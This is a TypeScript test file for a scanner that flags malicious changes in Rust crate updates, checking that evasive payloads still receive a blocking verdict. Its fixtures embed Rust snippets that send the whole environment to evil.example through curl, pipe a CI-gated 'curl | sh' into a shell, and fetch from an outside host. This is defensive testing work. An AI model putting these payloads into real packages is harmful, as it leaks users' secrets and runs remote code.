// Payloads shaped to slip past this session's severity changes (found in review): each must still block.
import { describe, expect, it } from 'vitest';
import { analyzeTrees } from '../src/index.js';
import { treeFromFiles } from '../src/source/index.js';
import { MemoryFactsStore } from '../src/runner/memory-store.js';

const manifest = (name: string, v: string, deps = '') => `[package]\nname = "${name}"\nversion = "${v}"\nedition = "2021"\n${deps ? `\n[dependencies]\n${deps}\n` : ''}`;
const scan = (oldFiles: Record<string, string>, newFiles: Record<string, string>, factsStore?: MemoryFactsStore) =>
  analyzeTrees(treeFromFiles(oldFiles, 'old'), treeFromFiles(newFiles, 'new'), { factsStore }).report;

describe('evasions of the narrowed rules', () => {
  it('the whole environment sent through curl blocks however the program is named', () => {
    const body = (prog: string) => `pub fn f() { let e: Vec<(String, String)> = std::env::vars().collect(); let _ = std::process::Command::new(${prog}).arg("-d").arg(format!("{:?}", e)).arg("https://evil.example/c").spawn(); }\nconst P: &str = "curl";\n`;
    for (const prog of ['"curl"', 'P', 'r"curl"', '"curl.exe"', '"/usr/bin/env"']) {
      const r = scan({ 'Cargo.toml': manifest('c', '0.1.0'), 'src/lib.rs': 'pub fn g() {}\n' }, { 'Cargo.toml': manifest('c', '0.1.1'), 'src/lib.rs': body(prog) });
      expect(r.findings.find((f) => f.ruleId === 'secret-exfiltration')?.severity, prog).toBe('critical');
      expect(r.verdict, prog).toBe('block');
    }
  });

  it('an existing spawn helper called with "curl" and the environment blocks', () => {
    const helper = 'pub fn run(p: &str, a: &str) { let _ = std::process::Command::new(p).arg(a).status(); }\n';
    const r = scan(
      { 'Cargo.toml': manifest('c', '0.1.0'), 'src/lib.rs': `${helper}pub fn g() { run("ls", "-l"); }\n` },
      { 'Cargo.toml': manifest('c', '0.1.1'), 'src/lib.rs': `${helper}pub fn g() { let e: Vec<(String, String)> = std::env::vars().collect(); run("curl", &format!("https://evil.example/?{:?}", e)); }\n` },
    );
    expect(r.verdict).toBe('block');
  });

  it('a process spawned only by the old build script does not make a new run-time spawn "the crate\'s job"', () => {
    const build = 'fn main() { let rustc = std::env::var("RUSTC").unwrap(); let _ = std::process::Command::new(rustc).arg("--version").output(); }\n';
    const util = 'pub fn helper(m: &str) -> usize { m.len() }\n';
    const r = scan(
      { 'Cargo.toml': manifest('c', '0.1.0'), 'build.rs': build, 'src/lib.rs': 'mod util;\npub fn log(m: &str) -> usize { util::helper(m) }\n', 'src/util.rs': util },
      { 'Cargo.toml': manifest('c', '0.1.1'), 'build.rs': build, 'src/lib.rs': 'mod util;\nmod sys;\npub fn log(m: &str) -> usize { sys::hook(); util::helper(m) }\n', 'src/util.rs': util, 'src/sys.rs': 'pub fn hook() { let _ = std::process::Command::new("x").arg("y").spawn(); }\n' },
    );
    expect(r.findings.find((f) => f.ruleId === 'far-jump-call')?.severity).toBe('critical');
    expect(r.verdict).toBe('block');
  });

  it('CI markers spelled as shell text still gate a payload', () => {
    const bodies = [
      (lit: string) => `pub fn f() { if std::env::vars().any(|(k, _)| k == ${lit}) { let _ = std::process::Command::new("sh").arg("-c").arg("x").spawn(); } }\n`,
      (lit: string) => `pub fn f() { let _ = std::process::Command::new("sh").arg("-c").arg(${lit}).spawn(); }\n`,
    ];
    for (const lit of ['"GITHUB_ACTIONS"', '"$GITHUB_ACTIONS"', '" CI"', '"${GITLAB_CI}"', '"[ -n \\"$GITLAB_CI\\" ] && curl -s https://x.example | sh"']) {
      for (const body of bodies) {
        const r = scan({ 'Cargo.toml': manifest('c', '0.1.0'), 'src/lib.rs': 'pub fn g() {}\n' }, { 'Cargo.toml': manifest('c', '0.1.1'), 'src/lib.rs': body(lit) });
        expect(r.findings.some((f) => f.ruleId === 'ci-gated-payload'), lit).toBe(true);
        expect(r.verdict, lit).toBe('block');
      }
    }
  });

  it('a dependency name with a separator in it cannot borrow another crate\'s resolutions through shared facts', () => {
    const payload = 'pub fn f() { let _ = std::process::Command::new("x").spawn(); let _ = reqwest::blocking::get("http://evil.example/x"); }\n';
    const pair = (name: string, deps: string, store: MemoryFactsStore) =>
      scan({ 'Cargo.toml': manifest(name, '0.1.0', deps), 'src/lib.rs': 'pub fn g() {}\n' }, { 'Cargo.toml': manifest(name, '0.1.1', deps), 'src/lib.rs': payload }, store);
    const shared = new MemoryFactsStore();
    pair('a', '"reqwest,s" = "1"', shared);
    const after = pair('b', 'reqwest = "1"\ns = "1"', shared);
    const alone = pair('b', 'reqwest = "1"\ns = "1"', new MemoryFactsStore());
    expect(after.capabilities.after).toEqual(alone.capabilities.after);
    expect(after.verdict).toBe(alone.verdict);
    expect(after.score).toBe(alone.score);
  });
});
